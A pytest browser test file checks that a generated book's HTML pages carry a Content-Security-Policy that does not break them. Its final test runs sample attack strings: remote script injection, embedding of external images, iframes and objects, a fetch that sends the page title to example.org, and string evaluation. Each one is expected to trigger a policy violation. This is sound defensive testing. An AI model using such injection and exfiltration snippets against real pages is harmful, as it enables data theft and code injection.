"""The pages' Content-Security-Policy: they work under it, and what it forbids does not happen."""

import pytest

from tools.browser import serve, visit

pytestmark = pytest.mark.browser

FIRST = "book/index.html"


@pytest.fixture(scope="module")
def address(html):
    with serve(html) as address:
        yield address


def test_content_policy_comes_before_every_script_and_breaks_nothing(html, browser, address):
    for path in sorted((html / "book").glob("*.html")):
        text = path.read_text(encoding="utf-8")
        assert 0 < text.find("Content-Security-Policy") < text.find("<script"), path.name
        with visit(browser, address, bypass_csp=False) as here:
            here.open(f"book/{path.name}").page.wait_for_load_state("networkidle")
            assert here.problems == [], path.name


def test_the_experiment_in_the_page_trains_under_the_policy(browser, address):
    with visit(browser, address, bypass_csp=False) as here:
        here.open(FIRST).page.get_by_role("button", name="Prune half").click()
        here.page.locator(".gst-filter[aria-pressed=true]").nth(31).wait_for()
        here.page.get_by_role("button", name="Keep training").click()
        here.page.wait_for_selector("[data-gst-live=click][data-gain]", timeout=120_000)
        assert here.problems == []


@pytest.mark.parametrize(
    ("attack", "directive"),
    [
        (
            "const s = document.createElement('script'); s.src = 'https://example.org/a.js'; document.head.append(s)",
            "script-src-elem",
        ),
        ("document.body.insertAdjacentHTML('beforeend', '<img src=https://example.org/a.png>')", "img-src"),
        ("document.body.insertAdjacentHTML('beforeend', '<iframe src=https://example.org></iframe>')", "frame-src"),
        ("document.body.insertAdjacentHTML('beforeend', '<object data=a.svg></object>')", "object-src"),
        ("fetch('https://example.org/?' + document.title).catch(() => 0)", "connect-src"),
        ("setTimeout('document.title = 1', 0)", "script-src"),
    ],
)
def test_nothing_is_loaded_from_elsewhere_sent_there_or_evaluated(browser, address, attack, directive):
    with visit(browser, address, bypass_csp=False) as here:
        found = here.open(FIRST).page.evaluate(f"""() => new Promise((done) => {{
          document.addEventListener("securitypolicyviolation", (event) => done(event.effectiveDirective));
          setTimeout(() => done("nothing"), 5000);
          {attack};
        }})""")
        assert found == directive
